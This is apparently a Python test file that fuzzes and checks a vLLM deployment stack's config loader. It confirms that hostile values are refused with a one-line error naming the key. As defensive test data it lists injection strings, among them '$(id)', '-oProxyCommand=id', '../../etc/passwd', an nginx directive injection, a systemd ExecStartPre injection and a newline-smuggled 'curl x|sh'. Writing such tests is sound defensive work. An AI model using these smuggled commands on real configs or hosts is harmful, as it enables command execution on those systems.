"""Hostile config, field by field: refused at load with one line naming the key, or (the one
free-text field, extraArgs) accepted and then present in artifacts only in quoted form
(tests/stack/test_hostile_artifacts.py renders those).

The string fields are counted from the config model, not listed by hand: a new string field
without a grammar fails `test_every_string_field_has_a_grammar_or_choices`.
"""

from __future__ import annotations

import copy
import typing
from typing import Any, Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import AfterValidator, BaseModel

from tests.support.config_paths import set_path
from vllm_stack.config import StackConfig
from vllm_stack.grammar import Grammar
from vllm_stack.loader import ConfigError, parse_config

#: Fields that take free text on purpose (vLLM's own arguments); quoted by construction.
FREE_TEXT = {"models[].extraArgs[]"}

DOCKER: dict[str, Any] = {
    "environment": "prod",
    "platform": "docker",
    "hostRuntime": "systemd",
    "hosts": [
        {"name": "gpu-1", "address": "10.0.0.10", "user": "ubuntu", "gpu": "L40S", "capacity": "onDemand"},
        {"name": "gpu-2", "address": "gpu-2.dc.example.com", "gpu": "L40S", "capacity": "spot"},
    ],
    "models": [
        {
            "name": "llama-8b",
            "model": "meta-llama/Llama-3.1-8B-Instruct",
            "gpu": "L40S",
            "quantization": "none",
            "kvCacheDtype": "auto",
            "image": "vllm/vllm-openai:v0.33.0",
            "routing": {"enabled": True, "policy": "prefix"},
            "extraArgs": ["--enable-chunked-prefill"],
            "pool": {
                "onDemand": 1,
                "spot": 1,
                "spotMax": 1,
                "drainSeconds": 20,
                "peakSchedule": {
                    "start": "45 8 * * 1-5",
                    "end": "0 19 * * 1-5",
                    "timezone": "Europe/Berlin",
                    "replicas": 1,
                },
            },
            "architecture": None,
        }
    ],
    "front": {
        "domain": "vllm.example.com",
        "tls": "selfSigned",
        "clientMaxBodySize": "50m",
        "host": "gpu-1",
        "serviceType": "LoadBalancer",
    },
    "monitoring": {
        "alertmanager": {
            "external": "alertmanager.example.com:9093",
            "groupWait": "30s",
            "groupInterval": "5m",
            "repeatInterval": "4h",
            "criticalRepeatInterval": "1h",
            "receivers": [
                {
                    "name": "mail",
                    "type": "email",
                    "severities": ["critical"],
                    "to": "oncall@example.com",
                    "from": "alerts@example.com",
                    "smarthost": "smtp.example.com:587",
                    "username": "alerts",
                }
            ],
        },
        "runbookBaseUrl": "https://runbooks.example.com/docs/runbooks.md",
        "host": "gpu-1",
        "prometheusUrl": "http://prometheus.example.com:9090",
        "alerts": {
            "queueFor": "2m",
            "kvCacheFor": "5m",
            "ttftFor": "3m",
            "preemptionsFor": "5m",
            "backendDownFor": "1m",
            "gpuTempFor": "5m",
            "vramFor": "5m",
            "errorRateFor": "5m",
            "itlFor": "5m",
            "e2eFor": "5m",
            "queueTimeFor": "5m",
        },
    },
    "kubernetes": {"namespace": "vllm", "storageClass": "fast-ssd", "weightsPvcSize": "500Gi"},
    "router": {"version": "0.1.17", "image": "registry.example/vllm-router@sha256:" + "a" * 64},
}
KUBERNETES: dict[str, Any] = {
    **copy.deepcopy(DOCKER),
    "platform": "kubernetes",
    "hosts": [],
    "front": {**DOCKER["front"], "host": None},
    "monitoring": {**DOCKER["monitoring"], "host": None},
}
BASELINES = {"docker": DOCKER, "kubernetes": KUBERNETES}

HOSTILE = [
    "a\nb",
    "x;id",
    "}",
    "{",
    "$(id)",
    "`id`",
    "'",
    '"',
    "%n",
    "../../etc",
    "\u202e",
    "\u00e9",
    "a b",
    "-oProxyCommand=id",
    "*",
    "",
    " ",
    "x" * 300,
    "\x00",
    "${HOME}",
    "\\",
    "#",
    "@",
    "::1%eth0",
    "fe80::1%;}$(id)",
    "--host=0.0.0.0",
    "\r",
    "\t",
    "a=b",
    "|",
    "&&",
    ">",
    "<",
    "\u0000x",
]


def _unwrap(ann: Any) -> tuple[Any, tuple]:
    if typing.get_origin(ann) is typing.Annotated:
        return typing.get_args(ann)[0], ann.__metadata__
    return ann, ()


def string_fields(model: type[BaseModel] = StackConfig, prefix: str = "") -> Iterator[tuple[str, str, Any]]:
    """(dotted path with [] for list items, kind, check) for every field that holds a string; kind
    is `grammar`, `choices` or `free`, check tells whether a value is valid for the field alone."""
    for name, f in model.model_fields.items():
        if f.exclude:
            continue
        key = f"{prefix}{f.alias or name}"
        yield from _walk(f.annotation, tuple(f.metadata), key)


def _walk(ann: Any, meta: tuple, key: str) -> Iterator[tuple[str, str, Any]]:
    ann, more = _unwrap(ann)
    meta = meta + more
    origin, args = typing.get_origin(ann), typing.get_args(ann)
    if isinstance(ann, type) and issubclass(ann, BaseModel):
        yield from string_fields(ann, key + ".")
    elif origin in (typing.Union, getattr(__import__("types"), "UnionType", None)):
        for a in args:
            if a is not type(None):
                yield from _walk(a, meta, key)
    elif origin in (tuple, list):
        yield from _walk(args[0], (), key + "[]")
    elif origin is dict:
        yield from _walk(args[1], (), key + ".<gpu>")
    elif origin is typing.Literal:
        yield key, "choices", lambda v: v in args
    elif ann is str:
        grammars = [m.func for m in meta if isinstance(m, AfterValidator) and isinstance(m.func, Grammar)]
        yield key, ("grammar" if grammars else "free"), (lambda v: _valid(grammars[0], v)) if grammars else None


def _valid(grammar: Grammar, value: str) -> bool:
    try:
        grammar(value)
    except ValueError:
        return False
    return True


_ALL = {path: (kind, check) for path, kind, check in string_fields()}
FIELDS = sorted((path, kind) for path, (kind, _) in _ALL.items())


def test_every_string_field_has_a_grammar_or_choices():
    free = {k for k, kind in FIELDS if kind == "free"}
    assert free == set(), f"string fields without a grammar: {sorted(free)}"
    # The count the issue asks to report; a field added to the model changes it on purpose.
    assert len(FIELDS) == 60, [p for p, _ in FIELDS]


_set = set_path  # `[]` = item 0; None where the baseline has nothing (prices)


def test_baselines_load():
    for doc in BASELINES.values():
        parse_config(copy.deepcopy(doc))


def _covered(platform: str) -> list[str]:
    return [p for p, _ in FIELDS if _set(copy.deepcopy(BASELINES[platform]), p, "x") is not None]


def test_baselines_reach_every_string_field():
    reached = set(_covered("docker")) | set(_covered("kubernetes"))
    assert reached == {p for p, _ in FIELDS}


hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(["", "ok", "10.0.0.1", "a/b", "5m", "vllm"]),
        st.sampled_from(HOSTILE),
        st.sampled_from(["", "x", "/v1", ":9093"]),
    ),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40),
)


def _check_one(platform: str, path: str, value: str) -> None:
    doc = copy.deepcopy(BASELINES[platform])
    concrete = _set(doc, path, value)
    assert concrete is not None
    try:
        cfg = parse_config(doc)
    except ConfigError as err:
        text = str(err)
        assert "\n" not in text and "\r" not in text, text
        # The error names the key that was set; another key only when the value is valid for its
        # own field and broke a cross-field rule (a renamed host that front.host still names).
        if err.path != concrete:
            check = _ALL[path][1]
            assert check is not None and check(value), (concrete, value, text)
        return
    # Accepted: only free text and values that satisfy the field's grammar get here.
    kind = dict(FIELDS)[path]
    if path in FREE_TEXT:
        return
    assert kind == "grammar", (path, value)
    assert not any(c in value for c in "\n\r\x00;{}$`'\"\\ "), (path, value, cfg)


@pytest.mark.parametrize("platform", list(BASELINES))
@pytest.mark.parametrize("path", [p for p, _ in FIELDS])
@settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=hostile_text)
def test_hostile_value_is_refused_with_its_key_or_safe(platform, path, value):
    if _set(copy.deepcopy(BASELINES[platform]), path, "x") is None:
        return
    _check_one(platform, path, value)


# --- the corpus: one entry per class of defect the issue names ---------------------------------


def _with(platform: str, path: str, value: Any) -> dict:
    doc = copy.deepcopy(BASELINES[platform])
    assert _set(doc, path, value) is not None, path
    return doc


def _mutate(platform: str, fn) -> dict:
    doc = copy.deepcopy(BASELINES[platform])
    fn(doc)
    return doc


CORPUS: list[tuple[str, dict, str]] = [
    ("newline in host address", _with("docker", "hosts[].address", "10.0.0.10\ncurl x|sh"), "hosts[0].address"),
    ("ssh option as user", _with("docker", "hosts[].user", "-oProxyCommand=id"), "hosts[0].user"),
    ("newline in user", _with("docker", "hosts[].user", "ubuntu\nid"), "hosts[0].user"),
    ("IPv6 zone id", _with("docker", "hosts[].address", "fe80::1%;}$(id)"), "hosts[0].address"),
    ("model name shadows /v1", _with("docker", "models[].name", "v1"), "models[0].name"),
    ("model name shadows /health", _with("docker", "models[].name", "health"), "models[0].name"),
    ("domain with nginx syntax", _with("docker", "front.domain", "x; return 200 pwned"), "front.domain"),
    ("domain with brace", _with("docker", "front.domain", "a}b"), "front.domain"),
    ("k8s Service name starting with a digit", _with("kubernetes", "models[].name", "7b"), "models[0].name"),
    ("k8s name reserved for the stack", _with("kubernetes", "models[].name", "vllm-stack-x"), "models[0].name"),
    ("infinite number", _with("docker", "front.rateLimitRps", float("inf")), "front.rateLimitRps"),
    ("NaN", _with("docker", "models[].gpuMemoryUtilization", float("nan")), "models[0].gpuMemoryUtilization"),
    ("rate nginx refuses", _with("docker", "front.rateLimitRps", 1e20), "front.rateLimitRps"),
    ("boolean as port", _with("docker", "hosts[].port", True), "hosts[0].port"),
    ("boolean as count", _with("docker", "models[].pool.onDemand", True), "models[0].pool.onDemand"),
    ("string as integer", _with("docker", "models[].maxModelLen", "8192"), "models[0].maxModelLen"),
    ("integer as boolean", _with("docker", "models[].default", 1), "models[0].default"),
    (
        "duplicate host address",
        _mutate("docker", lambda d: d["hosts"][1].update(address="10.0.0.10")),
        "hosts[1].address",
    ),
    (
        "same host, other spelling",
        _mutate("docker", lambda d: d["hosts"][1].update(address="::ffff:10.0.0.10")),
        "hosts[1].address",
    ),
    (
        "two default models",
        _mutate(
            "docker",
            lambda d: d["models"].extend(
                [{**d["models"][0], "name": "b", "default": True}, {**d["models"][0], "name": "c", "default": True}]
            ),
        ),
        "models[2].default",
    ),
    ("spotMax below spot", _with("docker", "models[].pool.spotMax", 0), "models[0].pool.spotMax"),
    (
        "garbage cron",
        _with("docker", "models[].pool.peakSchedule.start", "every day"),
        "models[0].pool.peakSchedule.start",
    ),
    (
        "cron out of range",
        _with("docker", "models[].pool.peakSchedule.end", "0 25 * * *"),
        "models[0].pool.peakSchedule.end",
    ),
    (
        "garbage timezone",
        _with("docker", "models[].pool.peakSchedule.timezone", "Mars/Base"),
        "models[0].pool.peakSchedule.timezone",
    ),
    ("negative PVC size", _with("kubernetes", "kubernetes.weightsPvcSize", "-5Gi"), "kubernetes.weightsPvcSize"),
    ("image with shell", _with("docker", "models[].image", "vllm/x:1;id"), "models[0].image"),
    ("model path traversal", _with("docker", "models[].model", "../../etc/passwd"), "models[0].model"),
    (
        "alertmanager with newline",
        _with("docker", "monitoring.alertmanager.external", "am:9093\n- evil:1"),
        "monitoring.alertmanager.external",
    ),
    ("prometheusUrl not a URL", _with("kubernetes", "monitoring.prometheusUrl", "prom;id"), "monitoring.prometheusUrl"),
    ("storage class uppercase", _with("kubernetes", "kubernetes.storageClass", "GP3"), "kubernetes.storageClass"),
    ("body size overflow", _with("docker", "front.clientMaxBodySize", "99999999999999g"), "front.clientMaxBodySize"),
    ("duration overflow", _with("docker", "monitoring.alerts.queueFor", "99999999999m"), "monitoring.alerts.queueFor"),
    (
        "newline in extraArgs",
        _with("docker", "models[].extraArgs[]", "--x\nExecStartPre=/bin/id"),
        "models[0].extraArgs[0]",
    ),
    (
        "500k extraArgs",
        _with("docker", "models[].extraArgs", ["--enable-chunked-prefill"] * 500_000),
        "models[0].extraArgs",
    ),
    (
        "too many hosts",
        _mutate(
            "docker",
            lambda d: d.update(
                hosts=[
                    {"name": f"h{i}", "address": f"10.1.{i // 250}.{i % 250 + 1}", "gpu": "L40S"} for i in range(300)
                ]
            ),
        ),
        "hosts",
    ),
    ("huge replica count", _with("docker", "models[].pool.onDemand", 10**9), "models[0].pool.onDemand"),
    ("abbreviated secret flag", _with("docker", "models[].extraArgs[]", "--api-ke=sk-123"), "models[0].extraArgs[0]"),
    ("abbreviated host flag", _with("docker", "models[].extraArgs[]", "--ho=0.0.0.0"), "models[0].extraArgs[0]"),
    (
        "abbreviated utilization",
        _with("docker", "models[].extraArgs[]", "--gpu-memory-util=0.99"),
        "models[0].extraArgs[0]",
    ),
    (
        "abbreviated context length",
        _with("docker", "models[].extraArgs[]", "--max-model-le=131072"),
        "models[0].extraArgs[0]",
    ),
    (
        "underscore spelling",
        _with("docker", "models[].extraArgs[]", "--gpu_memory_utilization=0.99"),
        "models[0].extraArgs[0]",
    ),
]


@pytest.mark.parametrize("name, doc, path", CORPUS, ids=[c[0] for c in CORPUS])
def test_corpus_is_refused_with_one_line_naming_the_key(name, doc, path):
    with pytest.raises(ConfigError) as exc:
        parse_config(doc)
    assert exc.value.path == path, str(exc.value)
    assert "\n" not in str(exc.value)


@pytest.mark.parametrize("secure", [None, "", 5, {"x": 1}])
def test_null_or_empty_secure_is_not_a_set_secret(secure):
    from vllm_stack.loader import split_namespaced

    with pytest.raises(ConfigError) as exc:
        split_namespaced({"vllm-stack:hfToken": {"secure": secure}})
    assert exc.value.path == "hfToken.secure"
    plain, secrets = split_namespaced({"vllm-stack:hfToken": {"secure": "v1:abc"}})
    assert secrets == {"hfToken"} and plain == {}
